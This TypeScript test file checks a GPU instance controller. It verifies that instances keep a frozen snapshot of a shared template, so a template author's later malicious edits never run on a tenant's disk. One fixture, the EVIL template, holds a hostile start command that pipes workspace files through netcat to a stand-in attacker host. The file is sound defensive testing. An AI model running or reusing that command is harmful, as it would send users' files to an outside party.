import { describe, expect, test } from 'vitest';
import { templateSource } from '../../../src/controllers/gpu-instance/template-source.ts';
import { templateStatus } from '../../../src/controllers/status/instance-template.ts';
import { findCondition } from '../../../src/kube/conditions.ts';
import { KubeError } from '../../../src/kube/errors.ts';
import type { GpuInstanceStatus } from '../../../src/resources/instances/gpu-instance.ts';
import { numericId } from '../../../src/resources/ids.ts';
import {
  type InstanceTemplateSpec,
  MAX_FROZEN_BYTES,
  snapshotOf,
  templateHash,
} from '../../../src/resources/instance-template.ts';
import { tenantPolicySpecSchema } from '../../../src/resources/tenants/tenant-policy.ts';
import { controllerWorld, held } from '../../support/controller-world.ts';
import { claimOn, gpuInstance, gpuPod } from '../../support/inventory-world.ts';

const UID = '0b8f0c5e-7d3c-4f7e-9f43-0d9b0a6f2c11';
const GOOD: InstanceTemplateSpec = { displayName: '', image: 'r.io/app:1', onStart: 'echo good', diskGb: 20 };
const EVIL: InstanceTemplateSpec = { ...GOOD, image: 'r.io/evil:1', onStart: 'cat /workspace/* | nc evil.example 1' };
const LONG: InstanceTemplateSpec = { ...GOOD, onStart: 'x'.repeat(MAX_FROZEN_BYTES) };
const GOOD_POD = 'r.io/app:1: echo good';
const EVIL_POD = `${EVIL.image}: ${EVIL.onStart}`;
const SHARING = { 'berth.dev/shared-templates': 'true' };

interface Around {
  own?: Parameters<typeof gpuInstance>[1];
  status?: GpuInstanceStatus;
  /** Namespace of the template, and its labels. */
  author?: string;
  labels?: Record<string, string>;
  /** Edits the template while the claim is being written. */
  racing?: boolean;
  /** Of every write of the status. */
  refusal?: Error;
}

/** A tenant of namespace `default` who rents `a` from a template that another tenant shares, and may edit. */
function rental({ own = {}, status, author = 'author', labels = SHARING, racing = false, refusal }: Around = {}) {
  const world = controllerWorld(undefined, (path) => {
    if (racing && path === '/status') edit(EVIL);
    return refusal !== undefined && path === '/status' ? Promise.reject(refusal) : Promise.resolve();
  });
  const { instances, templates, namespaces, reconcile, createdPods, writes } = world;
  let version = 1;
  const template = (spec: InstanceTemplateSpec) => ({
    metadata: {
      name: 't',
      namespace: author,
      uid: UID,
      labels: { 'berth.dev/shared': 'true' },
      generation: version,
      resourceVersion: String(version),
    },
    spec,
  });
  const edit = (spec: InstanceTemplateSpec): void => {
    version += 1;
    templates.upsert(template(spec));
  };
  const label = (after: Record<string, string>): void =>
    namespaces.upsert({
      metadata: { name: author, uid: `uid-${author}`, labels: after, resourceVersion: String((version += 1)) },
    });
  const seen = () => instances.store.get('default/a') ?? gpuInstance('a');
  /** A newer version of the instance, as the watch shows it. */
  const show = (change: (before: ReturnType<typeof seen>) => Partial<ReturnType<typeof seen>>): void => {
    const before = seen();
    const resourceVersion = `${Number(before.metadata.resourceVersion) + 100}`;
    instances.upsert({ ...before, ...change(before), metadata: { ...before.metadata, resourceVersion } });
  };
  if (author !== 'default') label(labels);
  edit(GOOD);
  instances.upsert(held(gpuInstance('a', { templateId: numericId(UID), ...own }, status)));
  return {
    ...world,
    edit,
    label,
    show,
    template: () => template(GOOD),
    status: () => seen().status,
    condition: (type: string) => findCondition(seen().status?.conditions, type),
    forget: (): void => templates.remove(template(EVIL)),
    /** The start has ended and its place was given back. */
    restart: (): Promise<unknown> => {
      show(({ status: before }) => {
        const { claim: _claim, podName: _pod, podUid: _uid, ...rest } = before ?? {};
        return { status: rest };
      });
      return reconcile('a');
    },
    /** Image and onStart of every pod that was created. */
    ran: () =>
      createdPods().map(({ spec }) => [spec?.containers[0]?.image, spec?.containers[0]?.command?.at(-1)].join(': ')),
    /** The status patches, as they went over the wire. */
    sent: () => writes.filter(({ kind }) => kind === 'GPUInstance').map(({ body }) => JSON.stringify(body)),
  };
}

describe('an author who edits a template after the rental', () => {
  test('runs nothing on the disk of the tenant at the next start', async () => {
    const { reconcile, edit, restart, ran } = rental();
    await reconcile('a');
    edit(EVIL);
    await restart();
    expect(ran()).toEqual([GOOD_POD, GOOD_POD]);
  });

  test('nor while the claim is being written', async () => {
    const { reconcile, ran } = rental({ racing: true });
    await reconcile('a');
    expect(ran()).toEqual([GOOD_POD]);
  });

  test('takes no instance away by deleting it, nor by no longer sharing it', async () => {
    const { reconcile, forget, label, restart, ran } = rental();
    await reconcile('a');
    label({});
    await restart();
    forget();
    await restart();
    expect(ran()).toEqual([GOOD_POD, GOOD_POD, GOOD_POD]);
  });

  test('is seen by the tenant, until the content is as before', async () => {
    const { reconcile, edit, forget, condition } = rental();
    await reconcile('a');
    const reasons: unknown[] = [];
    for (const change of [() => edit(GOOD), () => edit(EVIL), () => edit({ ...GOOD, displayName: 'new' }), forget]) {
      change();
      await reconcile('a');
      reasons.push(condition('TemplateCurrent')?.reason);
    }
    expect(reasons).toEqual(['Unchanged', 'TemplateChanged', 'Unchanged', 'TemplateGone']);
  });

  test('wakes those who rented it, after all that is more urgent, and nobody by a change of its status', async () => {
    const { reconcile, deps, edit, label, templates, template } = rental();
    await reconcile('a');
    const woken: string[] = [];
    templateSource(deps.stores).start((key, priority) => woken.push(`${key} ${priority}`));
    const { metadata, spec } = template();
    templates.upsert({ metadata: { ...metadata, resourceVersion: '50' }, spec, status: { id: 1 } });
    expect(woken).toEqual([]);
    edit(EVIL);
    label({});
    expect(woken).toEqual(['default/a low', 'default/a low']);
  });
});

describe('what an instance keeps of its template', () => {
  test('is written with the claim, and not sent again', async () => {
    const { reconcile, edit, status, sent, restart } = rental();
    await reconcile('a');
    expect(sent().filter((body) => body.includes('echo good'))).toHaveLength(1);
    expect(sent()[0]).toContain('"claim"');
    expect(status()?.template).toEqual({
      name: 't',
      namespace: 'author',
      uid: UID,
      hashId: templateHash(GOOD),
      spec: { image: 'r.io/app:1', onStart: 'echo good', diskGb: 20 },
    });
    edit(EVIL);
    await restart();
    expect(sent().filter((body) => body.includes('echo good'))).toHaveLength(1);
    expect(status()?.template?.hashId).toBe(templateHash(GOOD));
  });

  test('is in the conditions of every later write: a leader of old views cannot replace it', async () => {
    const { reconcile, restart, sent } = rental();
    await reconcile('a');
    await restart();
    const kept = { op: 'test', path: '/status/template/hashId', value: templateHash(GOOD) };
    expect(sent().at(-1)).toContain(JSON.stringify(kept));
  });

  test('gives way to fields that the owner sets, also later', async () => {
    const { reconcile, show, restart, ran } = rental({ own: { image: 'r.io/own:1' } });
    await reconcile('a');
    show(({ spec }) => ({ spec: { ...spec, onStart: 'echo own' } }));
    await restart();
    expect(ran()).toEqual(['r.io/own:1: echo good', 'r.io/own:1: echo own']);
  });

  test('goes when the owner names another content, or none', async () => {
    const { reconcile, edit, show, restart, ran, status, condition } = rental();
    await reconcile('a');
    edit(EVIL);
    show(({ spec }) => ({ spec: { ...spec, templateHashId: templateHash(EVIL) } }));
    await restart();
    show(({ spec: { templateId: _id, templateHashId: _hash, ...spec } }) => ({ spec }));
    await restart();
    expect(ran()).toEqual([GOOD_POD, EVIL_POD, 'debian:12: ']);
    expect([status()?.template, condition('TemplateCurrent')]).toEqual([undefined, undefined]);
  });

  test('stays although the owner names a template that is not there', async () => {
    const { reconcile, show, restart, status, condition } = rental();
    await reconcile('a');
    show(({ spec }) => ({ spec: { ...spec, templateId: 1 } }));
    await restart();
    expect([condition('Ready')?.reason, status()?.template?.uid]).toEqual(['TemplateNotFound', UID]);
  });

  test('is not taken before the first claim', async () => {
    const { reconcile, edit, show, status, ran } = rental({ own: { gpu: { count: 16 } } });
    await reconcile('a');
    expect([status()?.claim, status()?.template, status()?.image]).toEqual([undefined, undefined, 'r.io/app:1']);
    edit(EVIL);
    show(({ spec }) => ({ spec: { ...spec, gpu: { count: 1 } } }));
    await reconcile('a');
    expect(ran()).toEqual([EVIL_POD]);
  });
});

describe('an instance from before templates were kept', () => {
  const rented = { claim: claimOn('n'), incarnation: 1, podName: 'a-1', diskPersistent: false, diskGb: 20 };

  test('keeps what its template gives before it makes a pod', async () => {
    const { reconcile, ran, status } = rental({ status: rented, racing: true });
    await reconcile('a');
    expect(ran()).toEqual([GOOD_POD]);
    expect(status()?.template?.hashId).toBe(templateHash(GOOD));
  });

  test('makes no pod when what its template gives cannot be written', async () => {
    const refusal = new KubeError({ message: 'no more space', status: 500, reason: 'InternalError' });
    const { reconcile, ran } = rental({ status: rented, refusal });
    await expect(reconcile('a')).rejects.toBe(refusal);
    expect(ran()).toEqual([]);
  });

  test('that runs keeps it at the next look, and runs on', async () => {
    const { reconcile, pods, ran, status } = rental({ status: rented });
    pods.upsert(gpuPod('a-1', 'n', { instanceUid: 'uid-a' }));
    await reconcile('a');
    expect([ran(), status()?.template?.hashId, status()?.claim?.node]).toEqual([[], templateHash(GOOD), 'n']);
  });

  test('that is stopped keeps it at the next look', async () => {
    const { claim: _claim, podName: _pod, ...stopped } = rented;
    const { reconcile, status } = rental({ own: { powerState: 'Stopped' }, status: stopped });
    await reconcile('a');
    expect(status()?.template?.hashId).toBe(templateHash(GOOD));
  });

  test('whose template is too large runs on, and does not start again', async () => {
    const { reconcile, pods, edit, status, restart, condition } = rental({ status: rented });
    edit(LONG);
    const pod = gpuPod('a-1', 'n', { instanceUid: 'uid-a' });
    pods.upsert(pod);
    await reconcile('a');
    expect([status()?.template, status()?.claim?.node]).toEqual([undefined, 'n']);
    pods.remove(pod);
    await restart();
    expect([status()?.claim, condition('Ready')?.reason]).toEqual([undefined, 'TemplateTooLarge']);
  });
});

describe('the ceilings of images', () => {
  const policy = (version: string, images: string[]) => ({
    metadata: { name: 'gold', resourceVersion: version },
    spec: tenantPolicySpecSchema.parse({ images }),
  });

  test('hold at each start for what the instance keeps, whatever the template says by then', async () => {
    const { reconcile, policies, edit, restart, ran, condition } = rental();
    policies.upsert(policy('2', ['r.io/app*']));
    await reconcile('a');
    policies.upsert(policy('3', ['r.io/evil*']));
    edit(EVIL);
    await restart();
    expect(ran()).toEqual([GOOD_POD]);
    expect(condition('Ready')).toMatchObject({
      reason: 'TenantLimit',
      message: expect.stringContaining('not r.io/app:1'),
    });
  });

  test('refuse no instance for an image that its template names only later', async () => {
    const { reconcile, policies, edit, restart, ran } = rental();
    policies.upsert(policy('2', ['r.io/app*']));
    await reconcile('a');
    edit(EVIL);
    await restart();
    expect(ran()).toEqual([GOOD_POD, GOOD_POD]);
  });
});

describe('a template that its author marks as shared', () => {
  test('is not for other tenants where the operator has not labelled the namespace', async () => {
    const { reconcile, ran, condition, deps, label } = rental({ labels: {} });
    await reconcile('a');
    expect([ran(), condition('Ready')?.reason]).toEqual([[], 'TemplateNotFound']);
    const woken: string[] = [];
    templateSource(deps.stores).start((key) => woken.push(key));
    label({ any: 'other' });
    expect(woken).toEqual([]);
    label(SHARING);
    expect(woken).toEqual(['default/a']);
    await reconcile('a');
    expect(ran()).toEqual([GOOD_POD]);
  });

  test.each(['default', 'berth-system'])('in namespace %s needs no label', async (author) => {
    const { reconcile, ran } = rental({ author, labels: {} });
    await reconcile('a');
    expect(ran()).toEqual([GOOD_POD]);
  });

  test('says whether it is, and who can change that', () => {
    const { deps, label, template } = rental({ labels: {} });
    const { statusOf, sources = [] } = templateStatus(deps.stores, 'berth-system');
    const ready = (spec = GOOD) => statusOf({ ...template(), spec }, 0).conditions?.[0];
    const woken: string[] = [];
    for (const source of sources) source.start((key) => woken.push(key));
    expect(ready()).toMatchObject({
      status: 'True',
      reason: 'NotShared',
      message: expect.stringContaining('can label namespace author with berth.dev/shared-templates=true'),
    });
    label(SHARING);
    expect([woken, ready()?.reason]).toEqual([['author/t'], 'Valid']);
    expect(ready(LONG)).toMatchObject({ status: 'False', reason: 'TooLarge' });
  });
});

test('a template of exactly the largest size can be rented', () => {
  const { template } = rental();
  const most = { ...template(), spec: { displayName: 'any', onStart: '' } };
  const bytes = JSON.stringify({ onStart: '' }).length;
  most.spec.onStart = 'x'.repeat(MAX_FROZEN_BYTES - bytes);
  expect(snapshotOf(most)?.spec).toEqual({ onStart: most.spec.onStart });
  most.spec.onStart += 'x';
  expect(snapshotOf(most)).toBeUndefined();
});
